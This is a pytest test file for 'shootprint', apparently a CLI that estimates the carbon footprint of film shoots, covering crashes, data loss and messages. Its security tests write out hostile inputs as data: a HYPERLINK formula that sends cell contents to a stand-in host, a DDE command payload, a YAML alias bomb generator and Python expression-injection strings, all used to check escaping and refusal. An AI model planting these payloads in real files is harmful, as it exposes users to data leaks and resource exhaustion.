"""Defects found trying the command line as a new user and as an adversary: each one reproduced.

Commands run in-process (click's runner): an exception other than SystemExit is a traceback a
user would have seen.
"""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from shootprint.cli import app

BASE = """\
shootprint: 1
name: Lisbon car commercial
country: PT
shoot_days: 2
deliverables: {still_images: 3, film_seconds: 30}
activities:
  - id: crew-flights
    type: flight
    stage: shoot
    from: CDG
    to: LIS
    travellers: 4
    return: true
  - id: scouting
    type: flight
    stage: pre-production
    from: CDG
    to: LIS
    travellers: 1
  - id: crew-hotel
    type: hotel
    stage: shoot
    region: PT
    nights: 8
"""


def invoke(*args: str | Path) -> Result:
    result = CliRunner().invoke(app, [str(a) for a in args], catch_exceptions=True)
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise AssertionError(f"traceback for {args}: {result.exception!r}") from result.exception
    return result


def text_of(result: Result) -> str:
    return result.output + (result.stderr if result.stderr_bytes is not None else "")


@pytest.fixture
def prod(tmp_path: Path) -> Path:
    path = tmp_path / "lisbon.yaml"
    path.write_text(BASE, encoding="utf-8")
    return path


def write(tmp_path: Path, text: str, name: str = "p.yaml") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


# -- crashes ---------------------------------------------------------------------------------------


def test_a_401_digit_integer_is_not_finite_everywhere(tmp_path: Path, prod: Path) -> None:
    big = "9" * 401
    as_count = write(tmp_path, BASE.replace("travellers: 4", f"travellers: {big}"))
    out = invoke("estimate", as_count)
    assert out.exit_code == 2 and "finite" in text_of(out)
    assert len(text_of(out)) < 2000  # the number is not echoed whole
    out = invoke("estimate", prod, "--set", f"activities.crew-hotel.nights={big}")
    assert out.exit_code == 2 and "finite" in text_of(out)
    images = write(tmp_path, BASE.replace("still_images: 3", f"still_images: {big}"), "images.yaml")
    out = invoke("estimate", images)
    assert out.exit_code == 2 and "deliverables.still_images" in text_of(out)


@pytest.mark.parametrize("command", ["estimate", "compare"])
def test_level_nan_is_refused(prod: Path, command: str) -> None:
    out = invoke(command, prod, "--samples", "100", "--level", "nan")
    assert out.exit_code == 2 and "--level" in text_of(out)


def test_level_nan_is_refused_by_whatif(prod: Path) -> None:
    out = invoke("whatif", prod, "--lever", "local_crew", "--level", "nan")
    assert out.exit_code == 2 and "--level" in text_of(out)


@pytest.mark.parametrize("command", ["sensitivity", "estimate", "report"])
def test_negative_seed_is_refused_alike(tmp_path: Path, prod: Path, command: str) -> None:
    extra = ["--out", str(tmp_path / "r.html")] if command == "report" else []
    out = invoke(command, prod, "--seed", "-1", *extra)
    assert out.exit_code == 2 and "--seed" in text_of(out)


def test_run_options_are_checked_in_the_core(prod: Path) -> None:
    from shootprint import api
    from shootprint.errors import InputError

    with pytest.raises(InputError, match="level"):
        api.estimate_uncertain(prod, samples=100, level=float("nan"))
    with pytest.raises(InputError, match="seed"):
        api.sensitivity([prod], seed=-1)
    with pytest.raises(InputError, match="samples"):
        api.estimate_uncertain(prod, samples=10**9)


@pytest.mark.parametrize(
    "lever",
    [
        "train_instead_of_plane=abc",
        "train_instead_of_plane=6000",
        "train_instead_of_plane=-5",
        "fewer_iterations=2",
        "fewer_iterations=0",
        "vegetarian_catering=beef",
        "local_crew=5",
        "hvo_instead_of_diesel=x",
        "compute_region=Atlantis",
    ],
)
def test_lever_values_are_validated(prod: Path, lever: str) -> None:
    out = invoke("whatif", prod, "--lever", lever, "--samples", "10")
    assert out.exit_code == 2, out.output
    assert "--lever" in text_of(out)


def test_overrides_csv_in_windows_1252_is_read(tmp_path: Path, prod: Path) -> None:
    rows = "id,value,unit,source\nmy.factor,1.5,kgCO2e/km,Étude interne (été 2024)\n"
    path = tmp_path / "over.csv"
    path.write_bytes(rows.encode("cp1252"))
    out = invoke("estimate", prod, "--factors", path)
    assert out.exit_code == 0, text_of(out)


def test_semicolon_csv_gets_a_separator_hint(tmp_path: Path, prod: Path) -> None:
    path = write(tmp_path, "id;value;unit;source\nmy.factor;1,5;kgCO2e/km;x\n", "over.csv")
    out = invoke("estimate", prod, "--factors", path)
    assert out.exit_code == 2 and "semicolons" in text_of(out)


def test_nan_factor_override_is_refused(tmp_path: Path, prod: Path) -> None:
    path = write(tmp_path, "id,value,unit,source\nmy.factor,nan,kgCO2e/km,x\n", "over.csv")
    out = invoke("estimate", prod, "--factors", path)
    assert out.exit_code == 2 and "finite" in text_of(out)


def test_out_onto_a_folder_or_into_a_missing_folder(tmp_path: Path, prod: Path) -> None:
    folder = tmp_path / "results"
    folder.mkdir()
    for fmt in ("json", "csv"):
        out = invoke("estimate", prod, "--format", fmt, "--out", folder)
        assert out.exit_code == 2 and "folder" in text_of(out)
    out = invoke("estimate", prod, "--format", "json", "--out", tmp_path / "new" / "deeper" / "r.json")
    assert out.exit_code == 0, text_of(out)
    assert json.loads((tmp_path / "new" / "deeper" / "r.json").read_text())["total_kgco2e"] > 0
    out = invoke("estimate", prod, "--format", "xlsx", "--out", tmp_path / "x" / "r.xlsx")
    assert out.exit_code == 0 and (tmp_path / "x" / "r.xlsx").is_file()
    out = invoke("template", "--out", tmp_path / "t" / "t.xlsx")
    assert out.exit_code == 0


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into read-only folders")
def test_out_into_a_read_only_folder(tmp_path: Path, prod: Path) -> None:
    ro = tmp_path / "ro"
    ro.mkdir()
    ro.chmod(0o500)
    try:
        out = invoke("estimate", prod, "--format", "json", "--out", ro / "r.json")
        assert out.exit_code == 2 and "permission" in text_of(out)
    finally:
        ro.chmod(0o700)


def test_read_only_or_full_device_is_said(tmp_path: Path, prod: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import errno
    import tempfile

    def refuse(*args: object, **kwargs: object) -> None:
        raise OSError(errno.EROFS, "Read-only file system")

    monkeypatch.setattr(tempfile, "mkstemp", refuse)
    out = invoke("estimate", prod, "--format", "json", "--out", tmp_path / "r.json")
    assert out.exit_code == 2 and "read-only" in text_of(out)
    assert not (tmp_path / "r.json").exists()


def test_writer_errors_are_sentences() -> None:
    import errno

    from shootprint.output import _describe

    full = _describe(OSError(errno.ENOSPC, "No space left on device"), Path("r.json"))
    assert "full" in full and "nothing was written" in full
    assert "read-only" in _describe(OSError(errno.EROFS, "Read-only file system"), Path("r.json"))


def test_a_failed_write_leaves_the_old_file_whole(tmp_path: Path) -> None:
    from shootprint.output import write_with

    target = tmp_path / "r.xlsx"
    target.write_bytes(b"old")

    def broken(tmp: Path) -> None:
        tmp.write_bytes(b"half")
        raise OSError(28, "No space left on device")

    from shootprint.errors import InputError

    with pytest.raises(InputError, match="full"):
        write_with(target, broken, suffixes=(".xlsx",))
    assert target.read_bytes() == b"old"
    assert [p.name for p in tmp_path.iterdir()] == ["r.xlsx"]


def test_factors_search_with_a_huge_query(tmp_path: Path) -> None:
    out = invoke("factors", "search", "électricité " * 10_000)
    assert out.exit_code == 2 and "too long" in text_of(out)


# -- data loss -------------------------------------------------------------------------------------


def test_out_may_not_be_an_input(tmp_path: Path, prod: Path) -> None:
    before = prod.read_bytes()
    other = write(tmp_path, BASE.replace("Lisbon car commercial", "B"), "b.yaml")
    for args in (
        ["estimate", prod, "--format", "csv", "--out", prod],
        ["compare", prod, other, "--format", "json", "--out", other],
    ):
        out = invoke(*args)
        assert out.exit_code == 2 and "input" in text_of(out)
    assert prod.read_bytes() == before
    template = tmp_path / "w.xlsx"
    assert invoke("template", "--out", template).exit_code == 0
    data = template.read_bytes()
    out = invoke("import", template, "--out", template)
    assert out.exit_code == 2 and template.read_bytes() == data


def test_out_extension_must_match_the_format(tmp_path: Path, prod: Path) -> None:
    out = invoke("estimate", prod, "--format", "xlsx", "--out", tmp_path / "x.yaml")
    assert out.exit_code == 2 and ".xlsx" in text_of(out)
    assert not (tmp_path / "x.yaml").exists()
    out = invoke("template", "--out", tmp_path / "t.csv")
    assert out.exit_code == 2 and ".xlsx" in text_of(out)
    out = invoke("estimate", prod, "--format", "json", "--out", tmp_path / "r.csv")
    assert out.exit_code == 2


# -- security and exhaustion -----------------------------------------------------------------------

EVIL = '=HYPERLINK("http://x.example/?"&A1,"click")'


def test_csv_and_xlsx_exports_escape_formulas(tmp_path: Path) -> None:
    text = BASE.replace("id: crew-flights\n", f"id: crew-flights\n    label: '{EVIL}'\n").replace(
        "name: Lisbon car commercial", "name: '=cmd|'' /C calc''!A0'"
    )
    prod = write(tmp_path, text)
    out = invoke("estimate", prod, "--format", "csv")
    assert out.exit_code == 0, text_of(out)
    cells = [c for row in csv.reader(io.StringIO(out.output)) for c in row]
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    out = invoke("compare", prod, "--format", "csv", "--lines")
    assert not any(c.startswith("=") for row in csv.reader(io.StringIO(out.output)) for c in row)
    xlsx = tmp_path / "r.xlsx"
    assert invoke("estimate", prod, "--format", "xlsx", "--out", xlsx).exit_code == 0
    from openpyxl import load_workbook

    wb = load_workbook(xlsx)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
    assert any(
        isinstance(c.value, str) and c.value.startswith("'=") for ws in wb.worksheets for r in ws.iter_rows() for c in r
    )


def test_factors_export_escapes_formulas_of_overrides() -> None:
    from shootprint.output import cell_text

    assert cell_text("=1+1") == "'=1+1"
    assert cell_text("-2") == "'-2"
    assert cell_text("@SUM(A1)") == "'@SUM(A1)"
    assert cell_text(-2.0) == -2.0
    assert cell_text("Paris") == "Paris"


def alias_bomb(depth: int) -> str:
    lines = ["shootprint: 1", "name: bomb", "activities:", "  - id: f", "    type: flight", "    stage: shoot"]
    lines.append("    from: {name: CDG, l0: &a0 [x, x, x, x, x, x, x, x, x]")
    for i in range(1, depth + 1):
        refs = ", ".join([f"*a{i - 1}"] * 9)
        lines[-1] += f", l{i}: &a{i} [{refs}]"
    lines[-1] += "}"
    lines.append("    to: LIS")
    return "\n".join(lines) + "\n"


def test_yaml_alias_bomb_is_refused_quickly(tmp_path: Path) -> None:
    import time

    path = write(tmp_path, alias_bomb(9))
    assert path.stat().st_size < 1000
    start = time.perf_counter()
    out = invoke("estimate", path)
    assert time.perf_counter() - start < 10
    assert out.exit_code == 2 and "aliases" in text_of(out)
    assert len(text_of(out)) < 2000


def test_yaml_aliases_of_reasonable_size_are_fine(tmp_path: Path) -> None:
    text = BASE.replace("    travellers: 4\n", "    travellers: &crew 4\n").replace(
        "    travellers: 1\n", "    travellers: *crew\n"
    )
    assert invoke("estimate", write(tmp_path, text)).exit_code == 0


def test_deep_nesting_is_refused(tmp_path: Path) -> None:
    text = BASE + "description: " + "[" * 200 + "]" * 200 + "\n"
    out = invoke("estimate", write(tmp_path, text))
    assert out.exit_code == 2 and "nested" in text_of(out)


def test_place_mappings_are_strict(tmp_path: Path) -> None:
    text = BASE.replace(
        "from: CDG\n    to: LIS\n    travellers: 4", "from: {city: Paris, contry: US}\n    to: LIS\n    travellers: 4"
    )
    out = invoke("estimate", write(tmp_path, text))
    assert out.exit_code == 2 and "contry" in text_of(out) and "country" in text_of(out)


def test_samples_have_an_upper_bound(prod: Path) -> None:
    out = invoke("estimate", prod, "--samples", str(10**9))
    assert out.exit_code == 2 and "--samples" in text_of(out)


# -- silent wrong results --------------------------------------------------------------------------


def test_duplicate_keys_are_errors(tmp_path: Path) -> None:
    text = BASE.replace("    nights: 8\n", "    nights: 8\n    nights: 800\n")
    out = invoke("estimate", write(tmp_path, text))
    assert out.exit_code == 2 and "twice" in text_of(out) and "nights" in text_of(out)
    out = invoke("estimate", write(tmp_path, BASE + "activities: []\n", "b.yaml"))
    assert out.exit_code == 2 and "activities" in text_of(out)


def test_merge_keys_may_override(tmp_path: Path) -> None:
    text = BASE + "parameters:\n  base: &b {value: 4, unit: day}\n  crew: {<<: *b, value: 5}\n"
    assert invoke("estimate", write(tmp_path, text)).exit_code == 0


@pytest.mark.parametrize("value", ["", "nope", ","])
def test_unknown_exclusions_are_refused(prod: Path, value: str) -> None:
    out = invoke("estimate", prod, "--exclude", value)
    assert out.exit_code == 2 and "exclude" in text_of(out)


def test_exclusion_lists_and_case(prod: Path) -> None:
    full = json.loads(invoke("estimate", prod, "--format", "json").output)
    both = json.loads(invoke("estimate", prod, "--format", "json", "--exclude", "travel,accommodation").output)
    upper = json.loads(invoke("estimate", prod, "--format", "json", "--exclude", "TRAVEL").output)
    cat = full["by_category"]
    assert cat["travel"] > 0 and cat["accommodation"] > 0
    assert both["total_kgco2e"] == pytest.approx(full["total_kgco2e"] - cat["travel"] - cat["accommodation"])
    assert upper["total_kgco2e"] == pytest.approx(full["total_kgco2e"] - cat["travel"])


def test_non_finite_values_never_reach_results(tmp_path: Path) -> None:
    out = invoke("estimate", write(tmp_path, BASE.replace("nights: 8", "nights: 1e308")), "--format", "json")
    assert out.exit_code == 2 and "finite" in text_of(out)
    out = invoke("estimate", write(tmp_path, BASE.replace("shoot_days: 2", "shoot_days: .inf"), "b.yaml"))
    assert out.exit_code == 2 and "shoot_days" in text_of(out)


def test_all_levers_do_not_depend_on_their_order(prod: Path) -> None:
    a = json.loads(
        invoke(
            "whatif", prod, "--lever", "train_instead_of_plane", "--lever", "local_crew", "--format", "json",
            "--samples", "50",
        ).output
    )  # fmt: skip
    b = json.loads(
        invoke(
            "whatif", prod, "--lever", "local_crew", "--lever", "train_instead_of_plane", "--format", "json",
            "--samples", "50",
        ).output
    )  # fmt: skip
    total = {v["variant"]: v["total_kgco2e"] for v in a["variants"]}
    assert total["all levers"] == {v["variant"]: v["total_kgco2e"] for v in b["variants"]}["all levers"]
    assert total["all levers"] <= min(t for k, t in total.items() if k != "all levers") + 1e-9
    combined = next(v for v in a["variants"] if v["variant"] == "all levers")
    assert not any("train" in change for change in combined["changes"] if "crew-flights" in change)


def test_local_crew_drops_baggage_keeps_scouting(tmp_path: Path) -> None:
    from shootprint.levers import local_crew

    data = {
        "activities": [
            {"id": "crew-flights", "type": "flight", "stage": "shoot"},
            {"id": "bags", "type": "excess_baggage", "stage": "shoot"},
            {"id": "scouting", "type": "flight", "stage": "pre-production"},
        ]
    }
    out, _ = local_crew(data, None)
    assert [a["id"] for a in out["activities"]] == ["scouting"]


def test_workstation_hours_refuse_calendar_days() -> None:
    from shootprint.model import parse_work_hours

    for raw in ("2 day", "2 jours", {"value": 2, "unit": "days"}, "1 week"):
        with pytest.raises(ValueError, match="calendar time"):
            parse_work_hours(raw)
    assert parse_work_hours("16 h").central == 16
    assert parse_work_hours("90 min").central == 1.5


def test_workstation_in_days_is_an_error_in_a_file(tmp_path: Path) -> None:
    text = BASE + "  - {id: edit, type: workstation, stage: post-production, hours: 2 day}\n"
    out = invoke("estimate", write(tmp_path, text))
    assert out.exit_code == 2 and "calendar" in text_of(out) and "activities.edit.hours" in text_of(out)


# -- documented for a newcomer: the grammar and the units work as written ---------------------------


@pytest.mark.parametrize(
    ("raw", "unit", "central"),
    [("2 jours", "day", 2.0), ("3 heures", "h", 3.0), ("2 To", "TB", 2.0), ("500 Go", "TB", 0.5)],
)
def test_french_unit_spellings(raw: str, unit: str, central: float) -> None:
    from shootprint.model import parse_quantity

    assert parse_quantity(raw, unit).central == pytest.approx(central)


def test_parameter_expressions() -> None:
    import re

    from shootprint.model import parse_quantity

    assert parse_quantity("3 * $crew", "").scale == 3
    assert parse_quantity("$crew * 3", "").scale == 3
    assert parse_quantity("$days / 4", "").scale == 0.25
    assert parse_quantity("$a * $b", "").expr == ("*", ("param", "a"), ("param", "b"))
    assert parse_quantity("$a + 1", "").expr == ("+", ("param", "a"), ("num", 1.0, False))
    for refused, said in [
        ("__import__('os')", "cannot read"),
        ("$a ** 2", "powers"),
        ("$a - 1", "subtraction"),
        ("$a / $b", "divides by a parameter"),
        ("$a / 0", "divides by 0"),
        ("$a * (" * 12 + "1" + ")" * 12, "nested"),
        ("$a + " * 100 + "1", "at most"),
        ("$a $b", "'$b' is not expected"),
        ("$a * 2 km", "cannot be converted"),
        ("$a.__class__", "cannot read"),
    ]:
        with pytest.raises(ValueError, match=re.escape(said)):
            parse_quantity(refused, "day" if "km" in refused else "")


def test_expression_in_a_file(tmp_path: Path) -> None:
    text = BASE.replace("travellers: 4", "travellers: 2 * $crew") + "parameters: {crew: 2}\n"
    base = json.loads(invoke("estimate", write(tmp_path, BASE), "--format", "json").output)["total_kgco2e"]
    out = invoke("estimate", write(tmp_path, text, "b.yaml"), "--format", "json")
    assert out.exit_code == 0, text_of(out)
    assert json.loads(out.output)["total_kgco2e"] == pytest.approx(base)


EXPRESSIONS = """\
shootprint: 1
name: expressions
country: FR
parameters: {leg: 12 km, trips: 3, crew: {low: 3, value: 4, high: 6}, days: 2}
activities:
  - {id: a, type: car, stage: shoot, distance: DIST}
  - {id: h, type: hotel, stage: shoot, region: FR, nights: NIGHTS}
"""


@pytest.mark.parametrize(
    ("distance", "nights", "km", "room_nights"),
    [
        ("$leg * $trips", "$crew * $days", 36, 8),
        ("3 * $leg", "$crew + 1", 36, 5),
        ("$leg + 500 m", "($crew + 2) * $days", 12.5, 12),
        ("($leg + 3 km) * 2", "$days / 2", 30, 1),
    ],
)
def test_expressions_in_a_file(tmp_path: Path, distance: str, nights: str, km: float, room_nights: float) -> None:
    text = EXPRESSIONS.replace("DIST", distance).replace("NIGHTS", nights)
    out = invoke("estimate", write(tmp_path, text), "--format", "json")
    assert out.exit_code == 0, text_of(out)
    quantity = {line["id"]: line["quantity"] for line in json.loads(out.output)["lines"]}
    assert quantity["a"] == pytest.approx(km) and quantity["h"] == pytest.approx(room_nights)


@pytest.mark.parametrize(
    ("distance", "said"),
    [
        ("$leg + 1", "adds a quantity in km and a count"),
        ("$leg * $leg", "multiplies two quantities"),
        ("$trips + 1", "gives a count, this field needs km"),
        ("$leg * $nope", "unknown parameter $nope"),
    ],
)
def test_expression_units_are_checked(tmp_path: Path, distance: str, said: str) -> None:
    text = EXPRESSIONS.replace("DIST", distance).replace("NIGHTS", "2")
    out = invoke("estimate", write(tmp_path, text))
    assert out.exit_code == 2 and said in text_of(out) and "activities.a.distance" in text_of(out)


def test_an_expression_draws_each_parameter_once(tmp_path: Path) -> None:
    from shootprint import api

    def band(nights: str, name: str) -> dict[str, float]:
        text = EXPRESSIONS.replace("DIST", "12 km").replace("NIGHTS", nights)
        fp = api.estimate_uncertain(write(tmp_path, text, name), samples=400, seed=1)
        return dict(fp.uncertainty["lines"]["h"])

    # $crew + $crew is the same draw twice, so it equals $crew * 2 draw for draw
    assert band("$crew + $crew", "a.yaml") == pytest.approx(band("$crew * 2", "b.yaml"))


def test_every_line_tag_is_accepted_by_exclude() -> None:
    import re

    import shootprint.categories as categories
    from shootprint.categories import excludable

    folder = Path(categories.__file__).parent
    tags = {m for f in folder.glob("*.py") for m in re.findall(r'tag="([^"]+)"', f.read_text(encoding="utf-8"))}
    assert tags, "no tag found: the pattern no longer matches how lines are tagged"
    assert tags <= set(excludable())


# -- messages --------------------------------------------------------------------------------------


def test_records_paths_that_are_not_files(tmp_path: Path) -> None:
    from shootprint.errors import InputError
    from shootprint.tracker import read_records

    folder = tmp_path / "runs"
    folder.mkdir()
    with pytest.raises(InputError, match="is a folder"):
        read_records(folder)
    fifo = tmp_path / "fifo.jsonl"
    os.mkfifo(fifo)
    with pytest.raises(InputError, match="not a regular file"):
        read_records(fifo)


def test_a_file_that_is_not_jsonl_gets_a_capped_report(tmp_path: Path) -> None:
    from shootprint.errors import InputError
    from shootprint.tracker import read_records

    path = tmp_path / "runs.jsonl"
    path.write_text("not json\n" * 5000, encoding="utf-8")
    with pytest.raises(InputError) as exc:
        read_records(path)
    assert len(exc.value.problems) <= 21
    assert "more lines not checked" in exc.value.problems[-1]


def test_records_folder_named_in_a_production(tmp_path: Path) -> None:
    (tmp_path / "runs").mkdir()
    text = BASE + "records: [{file: runs}]\n"
    out = invoke("estimate", write(tmp_path, text))
    assert out.exit_code == 2 and "is a folder" in text_of(out)


def test_messages_hold_no_python_internals(tmp_path: Path) -> None:
    bad_id = BASE.replace("id: crew-hotel", "id: 'équipe hôtel'")
    out = invoke("estimate", write(tmp_path, bad_id))
    assert out.exit_code == 2 and "no spaces or accents" in text_of(out) and "pattern" not in text_of(out)
    out = invoke("estimate", write(tmp_path, BASE, "b.yaml"), "--set", "activities.crew-hotel.nights=3 (((")
    assert out.exit_code == 2
    assert "Error" not in text_of(out) and "(in )" not in text_of(out)


# -- documented for a newcomer ---------------------------------------------------------------------


def test_reference_pages_are_up_to_date() -> None:
    from shootprint.reference_pages import pages

    docs = Path(__file__).resolve().parents[2] / "docs"
    stale = [rel for rel, text in pages().items() if not (docs / rel).is_file() or (docs / rel).read_text() != text]
    assert not stale, f"rebuild with: python -m shootprint.reference_pages docs ({', '.join(stale)})"


def test_every_activity_example_is_a_valid_production_in_its_stage() -> None:
    from shootprint import api
    from shootprint.categories import models, registry
    from shootprint.production import validate
    from shootprint.reference_pages import example_activity

    examples = [example_activity(t) for t in models()]
    fp = api.estimate(validate({"shootprint": 1, "name": "examples", "country": "FR", "activities": examples}))
    assert {line.activity_id for line in fp.lines} == {e["id"] for e in examples}
    for example in examples:
        if registry()[example["type"]][0] in ("ai", "post_production") and example["type"] != "workspace":
            assert example["stage"] != "shoot", example


def test_models_command_lists_profiles_and_aliases() -> None:
    out = invoke("models", "--format", "json")
    data = json.loads(out.output)
    kling = next(p for p in data if p["name"] == "Kling 2.6")
    assert "kling" in kling["aliases"] and kling["provider"]
    assert invoke("models", "--kind", "nope").exit_code == 2


def test_schema_descriptions_read_as_sentences() -> None:
    from shootprint.production import json_schema

    text = json.dumps(json_schema())
    assert "a quantity a count" not in text and "'12 ''" not in text


def test_imported_files_start_with_the_format_version(tmp_path: Path) -> None:
    import openpyxl

    template = tmp_path / "t.xlsx"
    assert invoke("template", "--out", template).exit_code == 0
    wb = openpyxl.load_workbook(template)
    ws = next(ws for ws in wb.worksheets if ws.title.lower() == "production")
    ws.cell(2, 2, "Imported")
    wb.save(template)
    out = invoke("import", template)
    assert out.exit_code == 0, text_of(out)
    first = next(line for line in out.output.splitlines() if not line.startswith("#"))
    assert first == "shootprint: 1"


def test_a_very_short_flight_is_explained(tmp_path: Path) -> None:
    text = BASE.replace("from: CDG\n    to: LIS\n    travellers: 4", "from: CDG\n    to: ORY\n    travellers: 4")
    fp = json.loads(invoke("estimate", write(tmp_path, text), "--format", "json").output)
    line = next(ln for ln in fp["lines"] if ln["activity_id"] == "crew-flights")
    assert "flight-very-short" in [w["code"] for w in line["warnings"]]


def test_recycling_says_what_ademe_counts(tmp_path: Path) -> None:
    text = BASE + "  - {id: boxes, type: waste, stage: shoot, stream: cardboard, treatment: recycling, mass: 1000 kg}\n"
    fp = json.loads(invoke("estimate", write(tmp_path, text), "--format", "json").output)
    line = next(ln for ln in fp["lines"] if ln["activity_id"] == "boxes")
    assert "waste-recycling-scope" in [w["code"] for w in line["warnings"]]


@pytest.mark.parametrize(
    ("vary", "said"),
    [
        ("name", "not a number"),
        ("activities.crew-flights.cabin", "not a quantity"),
        ("activities.crew-flights.return", "not a quantity"),
        ("activities.nope.nights", "no activity"),
        ("parameters.none", "parameter"),
        ("activities.crew-hotel", "expected activities"),
    ],
)
def test_breakeven_refuses_what_cannot_vary(tmp_path: Path, prod: Path, vary: str, said: str) -> None:
    other = write(tmp_path, BASE.replace("nights: 8", "nights: 20"), "b.yaml")
    out = invoke("breakeven", prod, other, "--vary", vary)
    assert out.exit_code == 2 and said in text_of(out)
    assert "range(" not in text_of(out) and "Error" not in text_of(out)


def test_no_empty_unit_names_in_messages() -> None:
    from shootprint import units
    from shootprint.model import parse_quantity

    with pytest.raises(ValueError) as exc:
        units.convert(1.0, "km", "")
    assert "''" not in str(exc.value) and "a count" in str(exc.value)
    with pytest.raises(ValueError) as exc:
        parse_quantity(None, "")
    assert "(in )" not in str(exc.value)


def test_numbers_read_without_e_notation_or_minus_zero() -> None:
    from shootprint.report.text import _signed, kg, num, written_value

    assert num(30960.4) == "30,960" and "e" not in num(1.23e-7)
    assert kg(-0.0001) != "-0" and kg(-0.04) == "-0.04"
    assert num(-0.0) == "0" and _signed(-0.01) == "0.0"
    assert written_value({"low": 20, "value": 60, "high": 200}) == "60 (20–200)"
    assert "{" not in written_value({"value": 12, "unit": "km", "pct": 10})
